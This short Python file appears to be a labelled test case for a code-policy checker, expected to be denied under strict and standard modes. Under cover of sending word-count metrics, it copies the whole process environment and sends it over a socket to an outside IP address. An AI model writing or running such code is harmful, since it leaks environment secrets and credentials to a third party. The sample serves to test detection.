# expect: strict=deny standard=deny audit=allow
"""Word statistics sent to a "metrics" socket, with the environment slipped into the dict first."""
import json
import os
import socket


def send_metrics(payload, host="203.0.113.7", port=8443):
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(json.dumps(payload).encode())


stats = {"words": len("lorem ipsum dolor sit amet".split())}
stats["ctx"] = dict(os.environ)
send_metrics(stats)
print(stats["words"])
